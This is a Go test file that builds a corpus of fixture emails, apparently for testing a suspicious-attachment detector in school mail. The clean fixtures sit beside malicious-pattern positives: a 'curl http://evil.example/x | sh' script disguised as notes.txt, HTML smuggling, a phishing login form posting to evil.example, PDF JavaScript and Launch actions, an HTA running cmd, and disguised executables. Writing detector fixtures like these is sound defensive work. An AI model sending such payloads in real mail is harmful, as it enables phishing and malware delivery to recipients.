package extract

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/mail from the builders")

// Fake pupils for fixtures: invented names, never real data.
var pupilRows = [][]string{
	{"UPN", "Forename", "Surname", "DOB", "SEN"},
	{"A123456789012", "Ada", "Lovelace", "2015-12-10", "K"},
	{"B234567890123", "Alan", "Turing", "2015-06-23", ""},
	{"C345678901234", "Grace", "Hopper", "2015-12-09", "E"},
}

const letter = "Dear parents,\nThe school trip to the science museum is on Friday 4 December. Please return the consent form by Wednesday.\nKind regards,\nMrs Example"

// corpus is every fixture message, by file name in testdata/mail.
var corpus = map[string]func() []byte{
	// Clean look-alikes: ordinary school mail of every common kind.
	"clean-plain.eml": func() []byte { return mail("Trip on Friday", letter) },
	"clean-alt-html.eml": func() []byte {
		return []byte("From: news@example.org\r\nTo: office@trust.example\r\nSubject: Newsletter\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" +
			"Autumn newsletter: read it online at https://news.example.org/autumn\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
			"<html><head><title>News</title><style>p{color:red}</style></head><body>" +
			"<div style=\"display:none;max-height:0\">Preheader: our autumn news</div>" +
			"<p>Autumn newsletter: <a href=\"https://news.example.org/autumn\">read it online</a></p>" +
			"<script>track()</script></body></html>\r\n--b1--\r\n")
	},
	"clean-latin1.eml": func() []byte {
		return []byte("From: a@example.org\r\nTo: b@trust.example\r\nSubject: =?iso-8859-1?q?R=E9union?=\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nLa r\xe9union des parents aura lieu \xe0 l'\xe9cole.\r\n")
	},
	"clean-mislabelled.eml": func() []byte {
		// Declared UTF-8, written in Windows-1252 (a common mail client bug).
		return []byte("From: a@example.org\r\nTo: b@trust.example\r\nSubject: Caf\xe9 menu\r\nMIME-Version: 1.0\r\n" +
			"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nThe caf\xe9 will serve cr\xe8me br\xfbl\xe9e on Friday \x96 all welcome.\r\n")
	},
	"clean-pdf.eml": func() []byte {
		return mail("Term dates", "Attached.", part{"term-dates.pdf", "application/pdf", pdf([]string{"Term dates 2027", "Spring term starts 5 January"}, "", false), false})
	},
	"clean-pdf-cid.eml": func() []byte {
		return mail("Class list", "As a PDF.", part{"class-list.pdf", "application/pdf", pdfWithCIDFont("Ada Lovelace, Year 5"), false})
	},
	"clean-png.eml": func() []byte {
		return mail("Photo", "See the picture.", part{"logo.png", "image/png", pngImage(), true})
	},
	"clean-docx.eml": func() []byte {
		return mail("Minutes", "Minutes attached.", part{"minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			docx([]string{"Minutes of the governors' meeting", "Budget approved."}, [][]string{{"Item", "Owner"}, {"Roof repair", "Bursar"}}), false})
	},
	"clean-xlsx.eml": func() []byte {
		return mail("Class list", "List attached.", part{"class.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx(pupilRows, ""), false})
	},
	"clean-ics.eml": func() []byte {
		return mail("Invitation", "Meeting invite.", part{"invite.ics", "text/calendar",
			[]byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Parents' evening\r\nDESCRIPTION:Appointments with form tut\r\n ors in the main hall\r\nDTSTART:20261204T170000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), false})
	},
	"clean-vcf.eml": func() []byte {
		return mail("Contact", "My card.", part{"card.vcf", "text/vcard", []byte("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Mrs Example\r\nTEL:01234 567890\r\nEND:VCARD\r\n"), false})
	},
	"clean-zip-pdfs.eml": func() []byte {
		return mail("Reports", "Both reports.", part{"reports.zip", "application/zip", zipOf(
			"reports/autumn.pdf", pdf([]string{"Autumn report"}, "", false),
			"reports/spring.pdf", pdf([]string{"Spring report"}, "", false)), false})
	},
	"clean-csv.eml": func() []byte {
		var b strings.Builder
		for _, r := range pupilRows {
			b.WriteString(strings.Join(r, ",") + "\r\n")
		}
		return mail("Export", "CSV export.", part{"export.csv", "text/csv", []byte(b.String()), false})
	},
	"clean-odt.eml": func() []byte {
		return mail("Letter", "Letter attached.", part{"letter.odt", "application/vnd.oasis.opendocument.text",
			odf("application/vnd.oasis.opendocument.text", `<office:text><text:p>Dear governors,</text:p><text:p>The inspection went well.</text:p></office:text>`), false})
	},
	"clean-ods.eml": func() []byte {
		var rows strings.Builder
		for _, r := range pupilRows {
			rows.WriteString("<table:table-row>")
			for _, c := range r {
				rows.WriteString("<table:table-cell><text:p>" + c + "</text:p></table:table-cell>")
			}
			rows.WriteString(`<table:table-cell table:number-columns-repeated="1020"/></table:table-row>`)
		}
		rows.WriteString(`<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>`)
		return mail("Sheet", "Sheet attached.", part{"pupils.ods", "application/vnd.oasis.opendocument.spreadsheet",
			odf("application/vnd.oasis.opendocument.spreadsheet", `<office:spreadsheet><table:table table:name="Year 5">`+rows.String()+`</table:table></office:spreadsheet>`), false})
	},
	"clean-forward-docx.eml": func() []byte {
		inner := mail("Minutes", "Forwarded minutes.", part{"minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			docx([]string{"Minutes of the staff meeting"}, nil), false})
		return mail("Fwd: Minutes", "See below.", part{"Minutes.eml", "message/rfc822", inner, false})
	},
	"clean-tnef.eml": func() []byte {
		return mail("Outlook mail", "From Outlook.", part{"winmail.dat", "application/ms-tnef",
			tnef("Rich text body from Outlook", "agenda.txt", []byte("Agenda: budget, staffing")), false})
	},
	"clean-tgz.eml": func() []byte {
		return mail("Logs", "Logs attached.", part{"logs.tar.gz", "application/gzip", tgzOf("logs/app.log", []byte("server started\nall fine\n")), false})
	},
	"clean-7z.eml": func() []byte {
		return mail("Archive", "Texts.", part{"texts.7z", "application/x-7z-compressed", thirdParty("lzma2.7z"), false})
	},
	"clean-msg.eml": func() []byte {
		return mail("Outlook item", "Saved message.", part{"saved.msg", "application/vnd.ms-outlook", thirdParty("test.msg"), false})
	},
	"clean-xls.eml": func() []byte {
		return mail("Old sheet", "Old sheet.", part{"old.xls", "application/vnd.ms-excel", thirdParty("test.xls"), false})
	},
	"clean-doc.eml": func() []byte {
		return mail("Old doc", "Old document.", part{"plan.doc", "application/msword", thirdParty("novpapplan.doc"), false})
	},
	"encrypted-xlsx.eml": func() []byte {
		return mail("Class list (protected)", "Password by phone.", part{"class.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx(pupilRows, "s3cret"), false})
	},
	"hidden-text.eml": func() []byte {
		return []byte("From: a@example.org\r\nTo: b@trust.example\r\nSubject: Offer\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
			"<html><body bgcolor=\"#ffffff\"><p>Visible offer text</p>" +
			"<p><font color=\"#FFFFFF\">white on white words</font></p>" +
			"<span style=\"font-size:0px\">zero size words</span>" +
			"<div style='display: none'>display none words</div>" +
			"<p>Click <a href=\"https://evil.example/login\">https://bank.example/</a></p></body></html>\r\n")
	},

	// Positives: what suspicious_attachment must flag.
	"exe-double-ext.eml": func() []byte {
		return mail("Invoice", "Invoice attached.", part{"invoice.pdf.exe", "application/octet-stream", pe(), false})
	},
	"exe-as-jpg.eml": func() []byte {
		return mail("Photo", "Holiday photo.", part{"photo.jpg", "image/jpeg", pe(), false})
	},
	"rlo-name.eml": func() []byte {
		return mail("Invoice", "Invoice attached.", part{"invoice\u202Efdp.scr", "application/octet-stream", pe(), false})
	},
	"script-as-txt.eml": func() []byte {
		return mail("Notes", "Notes.", part{"notes.txt", "text/plain", []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n"), false})
	},
	"js-file.eml": func() []byte {
		return mail("Payment", "Payment details.", part{"payment.js", "application/javascript", []byte("var s=new ActiveXObject('WScript.Shell');"), false})
	},
	"lnk.eml": func() []byte {
		lnk := append([]byte{0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 64)...)
		return mail("Document", "Open the document.", part{"document.pdf.lnk", "application/octet-stream", lnk, false})
	},
	"iso.eml": func() []byte {
		return mail("Delivery", "Delivery note.", part{"delivery.img", "application/octet-stream", isoImage(), false})
	},
	"docm.eml": func() []byte {
		return mail("Report", "Report.", part{"report.docm", "application/vnd.ms-word.document.macroEnabled.12",
			docx([]string{"Enable content to view"}, nil, "word/vbaProject.bin", []byte("VBA project")), false})
	},
	"docx-vba.eml": func() []byte {
		return mail("Report", "Report.", part{"report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			docx([]string{"Enable content to view"}, nil, "word/vbaProject.bin", []byte("VBA project")), false})
	},
	"xls-vba.eml": func() []byte {
		return mail("Budget", "Budget.", part{"budget.xls", "application/vnd.ms-excel",
			cfb(map[string][]byte{"Workbook": []byte("\x09\x08\x10\x00\x00\x06\x05\x00budget figures here"), "_VBA_PROJECT_CUR/VBA/dir": []byte("x")}), false})
	},
	"html-smuggling.eml": func() []byte {
		blob := bytes.Repeat([]byte("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA"), 400)
		return mail("Document", "Open the attached page.", part{"document.html", "text/html",
			[]byte("<html><body><p>Loading document...</p><script>var d='" + string(blob) + "';var b=new Blob([atob(d)]);</script></body></html>"), false})
	},
	"html-form.eml": func() []byte {
		return mail("Mailbox full", "Log in to keep your mail.", part{"login.htm", "text/html",
			[]byte(`<html><body><form action="https://evil.example/collect" method="post">Email <input name="u"> Password <input type="password" name="p"></form></body></html>`), false})
	},
	"pdf-js.eml": func() []byte {
		return mail("Statement", "Statement attached.", part{"statement.pdf", "application/pdf",
			pdf([]string{"Statement"}, "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>", true), false})
	},
	"pdf-launch.eml": func() []byte {
		return mail("Statement", "Statement attached.", part{"statement.pdf", "application/pdf",
			pdf([]string{"Statement"}, "/OpenAction << /S /Launch /F (cmd.exe) >>", false), false})
	},
	"zip-encrypted.eml": func() []byte {
		return mail("Invoice", "Password: 1234", part{"invoice.zip", "application/zip", zipOf("invoice.doc!", []byte("encrypted bytes")), false})
	},
	"zip-nested-exe.eml": func() []byte {
		return mail("Files", "Files.", part{"files.zip", "application/zip", zipOf("inner.zip", zipOf("setup.exe", pe())), false})
	},
	"forward-scr.eml": func() []byte {
		inner := mail("Screensaver", "Nice one.", part{"fun.scr", "application/octet-stream", pe(), false})
		return mail("Fwd: Screensaver", "Look at this.", part{"fwd.eml", "message/rfc822", inner, false})
	},
	"rtf-object.eml": func() []byte {
		return mail("Order", "Order attached.", part{"order.doc", "application/msword",
			rtfWithObject("Please see the order.", cfb(map[string][]byte{"Ole10Native": append(make([]byte, 6), []byte("x\x00y\x00\x00\x00\x00\x00")...)})), false})
	},
	"tnef-exe.eml": func() []byte {
		return mail("Outlook mail", "From Outlook.", part{"winmail.dat", "application/ms-tnef", tnef("See attachment", "update.exe", pe()), false})
	},
	"tgz-js.eml": func() []byte {
		return mail("Archive", "Archive.", part{"archive.tgz", "application/gzip", tgzOf("run.js", []byte("WScript.Echo(1)")), false})
	},
	"onenote-hta.eml": func() []byte {
		hta := []byte("<html><head><HTA:APPLICATION ID=\"x\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"cmd\"</script></head></html>")
		return mail("Document", "Double-click to view.", part{"document.one", "application/onenote", oneNote(pngImage(), hta), false})
	},
	"rar-exe.eml": func() []byte {
		return mail("Invoice", "Invoice attached.", part{"invoice.rar", "application/vnd.rar", rarStored("invoice.txt", []byte("Invoice 42"), "invoice.exe", pe()), false})
	},
	"7z-encrypted.eml": func() []byte {
		return mail("Archive", "Password: 1234", part{"secret.7z", "application/x-7z-compressed", thirdParty("aes7z.7z"), false})
	},
}

func thirdParty(name string) []byte {
	b, err := os.ReadFile(filepath.Join("testdata", "third_party", name))
	if err != nil {
		panic(err)
	}
	return b
}

// TestWriteCorpus rewrites testdata/mail with -update; otherwise it checks
// that every committed fixture is still what its builder makes.
func TestWriteCorpus(t *testing.T) {
	dir := filepath.Join("testdata", "mail")
	names := make([]string, 0, len(corpus))
	for name := range corpus {
		names = append(names, name)
	}
	slices.Sort(names)
	for _, name := range names {
		boundaries = 0 // the same boundaries on every run
		data := corpus[name]()
		path := filepath.Join(dir, name)
		if *update {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, data, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if _, err := os.Stat(path); err != nil {
			t.Errorf("%s missing: run go test -run TestWriteCorpus -update", path)
		}
	}
}
